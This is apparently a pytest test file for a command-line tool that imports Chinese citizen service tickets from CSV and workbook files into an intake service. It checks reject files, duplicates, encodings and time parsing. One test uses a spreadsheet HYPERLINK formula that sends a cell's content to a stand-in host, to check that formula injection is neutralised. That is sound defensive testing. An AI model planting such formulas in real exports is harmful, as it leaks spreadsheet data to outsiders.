"""One import from file to summary, against a stand-in for intake."""

from __future__ import annotations

import csv
import json
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from typer.testing import CliRunner, Result

from services.cli.importing.run import ImportOutcome
from services.cli.importing.summary import ImportReport
from services.cli.main import app
from tests.unit.cli.importing.batch_route import BatchRoute
from tests.unit.cli.importing.files import HEADER, TEXT, csv_file, workbook

CALLS = f"""{HEADER}
1,漏水,{TEXT},2019-01-06 12:09:38
2,漏水,,2019-01-06 12:09:38
3,停水,停水两天,2019-02-30
1,漏水,{TEXT},2019-01-06 12:09:38
1,漏水,别的内容,2019-01-06 12:09:38
4,短行
5,噪音,工地噪音,2019/1/7
"""
Import = Callable[..., tuple[Result, dict[str, Any]]]


@pytest.fixture
def route(monkeypatch: pytest.MonkeyPatch) -> BatchRoute:
    """Every client of the command talks to it."""
    route, client = BatchRoute(), httpx.Client
    monkeypatch.setattr(httpx, "Client", lambda **options: client(**options, transport=httpx.MockTransport(route)))
    return route


@pytest.fixture
def run(route: BatchRoute, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Import:
    monkeypatch.chdir(tmp_path)

    def run(file: Path, *options: str) -> tuple[Result, dict[str, Any]]:
        command = ["import", str(file), "--mode", "live", "--url", "http://intake", "--token", "t", "--json", *options]
        result = CliRunner().invoke(app, command)
        return result, json.loads(result.stdout) if result.stdout else {}

    return run


def rejected(file: Path) -> list[tuple[str, str, str]]:
    with file.open(encoding="utf-8-sig", newline="") as lines:
        found = csv.DictReader(lines)
        return [(row["rejected_row"], row["rejected_source_id"], row["rejected_reason"]) for row in found]


@pytest.mark.parametrize("written", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
def test_good_rows_are_taken_and_every_other_is_in_the_reject_file_with_its_reason(
    run: Import, tmp_path: Path, written: str
) -> None:
    result, summary = run(csv_file(tmp_path, CALLS, written))
    assert result.exit_code == 0, result.stderr
    assert summary["seconds"] >= 0
    assert summary["rows_per_s"] > 0
    assert {name: summary[name] for name in ("rows", "received", "repeated", "rejected", "reject_file")} == {
        "rows": 7,
        "received": 2,
        "repeated": 1,
        "rejected": 4,
        "reject_file": "calls.rejected.csv",
    }
    assert rejected(tmp_path / "calls.rejected.csv") == [
        ("3", "2", "诉求内容: is empty: fill it in"),
        ("4", "3", "受理时间: is no time of any calendar (day is out of range for month): correct it"),
        ("6", "1", "source_id: came before with another content (correct the id)"),
        ("7", "4", "诉求内容: is empty: fill it in"),
    ]


def test_the_second_run_receives_nothing_and_rejects_the_same(run: Import, tmp_path: Path) -> None:
    file = csv_file(tmp_path, CALLS)
    _, first = run(file)
    result, second = run(file)
    assert result.exit_code == 0
    assert (second["received"], second["repeated"], second["rejected"]) == (0, 3, first["rejected"])


def test_the_corrected_reject_file_is_imported_as_it_is(run: Import, tmp_path: Path) -> None:
    run(csv_file(tmp_path, f"{HEADER}\n1,漏水,{TEXT},2019-02-30\n2,漏水,{TEXT},2019-01-06\n"))
    file = tmp_path / "calls.rejected.csv"
    file.write_text(file.read_text("utf-8-sig").replace("2019-02-30", "2019-02-28"), "utf-8-sig")
    _, summary = run(file)
    assert (summary["rows"], summary["received"], summary["reject_file"]) == (1, 1, None)


def test_a_workbook_is_imported_like_its_csv(run: Import, route: BatchRoute, tmp_path: Path) -> None:
    rows: list[list[str | float | None]] = [[*HEADER.split(",")], [1, "漏水", TEXT, "2019-01-06 12:09:38"]]
    run(csv_file(tmp_path, f"{HEADER}\n1,漏水,{TEXT},2019-01-06 12:09:38\n"))
    _, summary = run(workbook(tmp_path, rows))
    assert summary["repeated"] == 1
    assert route.bodies[0]["tickets"] == route.bodies[1]["tickets"]


def test_source_mode_and_mapping_are_reported(run: Import, route: BatchRoute, tmp_path: Path) -> None:
    file = csv_file(tmp_path, "key;said;when;who\n1;漏水;2019-01-06;U7\n", "gb18030")
    options = ("key=source_id", "said=text", "when=occurred_at", "who=caller_id")
    _, summary = run(
        file, "--source", "city", "--mode", "history", *(part for one in options for part in ("--map", one))
    )
    assert summary["received"] == 1
    assert (route.bodies[0]["source"], route.bodies[0]["mode"]) == ("city", "history")
    assert route.bodies[0]["tickets"][0]["caller"] == {"id": "U7"}


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "is empty"),
        ("标题,诉求内容\n漏水,漏水\n".encode(), "the columns are 标题, 诉求内容: name it with --map COLUMN=source_id"),
        (b"id,text,time\n1,\xff\xff,2019-01-06\n", "neither UTF-8 (byte 15)"),
        (b"PK\x03\x04 cut off", "no whole workbook"),
        (b"id,text,time\n", "holds no row"),
    ],
)
def test_a_file_that_cannot_be_read_is_one_clear_error_before_anything_is_sent(
    run: Import, route: BatchRoute, tmp_path: Path, content: bytes, message: str
) -> None:
    file = tmp_path / "calls.csv"
    file.write_bytes(content)
    result, _ = run(file)
    assert result.exit_code == 1
    assert str(file) in result.stderr
    assert message in result.stderr
    assert not result.stdout
    assert not route.bodies
    assert not (tmp_path / "calls.rejected.csv").exists()


def test_a_broken_end_of_the_file_is_found_before_its_beginning_is_sent(
    run: Import, route: BatchRoute, tmp_path: Path
) -> None:
    file = csv_file(tmp_path, f"{HEADER}\n" + f"1,漏水,{TEXT},2019-01-06\n" * 3000)
    file.write_bytes(file.read_bytes()[:-30])
    with file.open("ab") as more:
        more.write("水".encode()[:2])
    result, _ = run(file)
    assert result.exit_code == 1
    assert "cut off" in result.stderr
    assert not route.bodies


def test_not_one_row_taken_is_a_failure_with_a_summary(run: Import, tmp_path: Path) -> None:
    result, summary = run(csv_file(tmp_path, f"{HEADER}\n1,漏水,,2019-01-06\n"))
    assert result.exit_code == 1
    assert (summary["rows"], summary["rejected"]) == (1, 1)
    assert "not one row was taken" in result.stderr


def test_the_reject_file_is_never_the_file_itself(run: Import, tmp_path: Path) -> None:
    file = csv_file(tmp_path, CALLS)
    before = file.read_bytes()
    result, _ = run(file, "--rejects", str(tmp_path / "." / "calls.csv"))
    assert result.exit_code == 1
    assert "name another" in result.stderr
    assert file.read_bytes() == before


def test_a_reject_file_that_cannot_be_written_is_named_before_anything_is_sent(
    run: Import, route: BatchRoute, tmp_path: Path
) -> None:
    result, _ = run(csv_file(tmp_path, CALLS), "--rejects", str(tmp_path / "nowhere" / "rejected.csv"))
    assert result.exit_code == 1
    assert "--rejects" in result.stderr
    assert not route.bodies


def test_a_stop_on_the_way_tells_what_is_done_and_how_to_go_on(run: Import, route: BatchRoute, tmp_path: Path) -> None:
    many = "".join(f"{number},漏水,{TEXT},2019-01-06\n" for number in range(700))
    route.faults = [lambda _: None, lambda _: httpx.Response(401)]
    result, summary = run(csv_file(tmp_path, f"{HEADER}\n{many}"))
    assert result.exit_code == 1
    assert (summary["rows"], summary["received"]) == (500, 500)
    assert "stopped after 500 of 700 rows" in result.stderr
    assert "Run the same command again" in result.stderr


@pytest.mark.parametrize(
    ("options", "message"),
    [(["--url", "intake:8101"], "is no address"), (["--url", "http://intake"], "needs a token")],
)
def test_an_intake_that_cannot_be_asked_is_named(tmp_path: Path, options: list[str], message: str) -> None:
    file = csv_file(tmp_path, CALLS)
    result = CliRunner().invoke(app, ["import", str(file), "--mode", "live", *options], env={"CLOSEDLOOP_TOKEN": ""})
    assert result.exit_code == 1
    assert message in result.stderr


def test_titles_other_columns_and_callers_that_are_none_are_named_in_the_summary(run: Import, tmp_path: Path) -> None:
    content = """三月工单,,,,
工单编号,诉求内容,受理时间,联系电话,承办单位
1,漏水,2026-03-05,139****2222,甲
2,停水,2026-03-05,无,甲
3,停电,2026-03-05,无,甲
4,噪音,2026-03-05,13911112222/13733334444,甲
"""
    result, summary = run(csv_file(tmp_path, content))
    assert result.exit_code == 0, result.stderr
    assert (summary["received"], summary["rejected"]) == (4, 0)
    assert summary["not_read"] == ["1 lines above the header in line 2", "columns: 承办单位"]
    assert summary["nobody"] == {"无": 2}
    assert (summary["placeholder_callers"], summary["unreadable_numbers"]) == (2, 1)


def test_the_summary_counts_placeholders_and_numbers_that_nobody_can_read(run: Import, tmp_path: Path) -> None:
    cells = ("00000000", "匿名网友", "12345", "138****8000", "见附件", "13911112222")
    rows = "".join(f"{number},漏水,2026-03-05,{cell}\n" for number, cell in enumerate(cells))
    file = csv_file(tmp_path, f"工单编号,诉求内容,受理时间,联系电话\n{rows}")
    _, summary = run(file)
    assert (summary["placeholder_callers"], summary["unreadable_numbers"]) == (3, 2)
    assert summary["nobody"] == {"00000000": 1, "匿名网友": 1, "12345": 1}
    report = ImportReport(ImportOutcome(rows=6), 1.0, tmp_path, [], Counter(summary["nobody"]), 2)
    assert "3 placeholder callers, 2 unreadable numbers" in report.as_text().splitlines()[0]


def test_one_id_in_several_writings_is_one_ticket(run: Import, tmp_path: Path) -> None:
    ids = ("17", '"=""17"""', "17.0", "１７", "\u200b17")
    rows = "".join(f"{one},漏水,三楼漏水,2026-03-05\n" for one in ids)
    _, summary = run(csv_file(tmp_path, f"{HEADER}\n{rows}"))
    assert (summary["received"], summary["repeated"], summary["rejected"]) == (1, 4, 0)


def test_times_that_could_be_read_in_two_ways_are_reported_before_anything_is_rejected(
    run: Import, tmp_path: Path
) -> None:
    file = csv_file(
        tmp_path, f"{HEADER}\n1,漏水,三楼漏水,03/05/2026 12:09:38 PM\n2,漏水,三楼漏水,03/31/2026 1:00:00 AM\n"
    )
    result, summary = run(file)
    assert result.exit_code == 1
    assert result.stderr.startswith(f"{file}: not one time can be read (row 2: 受理时间: is not a time")
    assert "--time-format" in result.stderr
    assert summary["rejected"] == 2
    result, summary = run(file, "--time-format", "%m/%d/%Y %I:%M:%S %p")
    assert (result.exit_code, summary["received"]) == (0, 2)
    assert "not one time" not in result.stderr


def test_a_time_format_without_a_date_is_refused(run: Import, route: BatchRoute, tmp_path: Path) -> None:
    result, _ = run(csv_file(tmp_path, CALLS), "--time-format", "%H:%M")
    assert result.exit_code == 1
    assert "such as %m/%d/%Y" in result.stderr
    assert not route.bodies


def test_a_text_that_begins_like_a_formula_is_harmless_in_the_reject_file_and_comes_back_whole(
    run: Import, route: BatchRoute, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://x/?"&A2,"查看")'
    cell = formula.replace('"', '""')
    run(csv_file(tmp_path, f'{HEADER}\n1,漏水,"{cell}",不详\n'))
    file = tmp_path / "calls.rejected.csv"
    with file.open(encoding="utf-8-sig", newline="") as lines:
        assert next(csv.DictReader(lines))["诉求内容"] == f"'{formula}"
    file.write_text(file.read_text("utf-8-sig").replace("不详", "2026-03-05"), "utf-8-sig")
    run(file)
    assert route.bodies[0]["tickets"][0]["text"] == f"漏水\n{formula}"


def test_a_column_is_left_out_when_asked(run: Import, route: BatchRoute, tmp_path: Path) -> None:
    file = csv_file(tmp_path, "编号,内容,时间,联系电话\n1,漏水,2026-03-05,13911112222\n")
    _, summary = run(file, "--map", "联系电话=-")
    assert "caller" not in route.bodies[0]["tickets"][0]
    assert summary["not_read"] == ["columns: 联系电话"]


def test_help_gives_an_example() -> None:
    result = CliRunner().invoke(app, ["import", "--help"], env={"COLUMNS": "200"})
    assert result.exit_code == 0
    assert "Example: closedloop import" in result.output
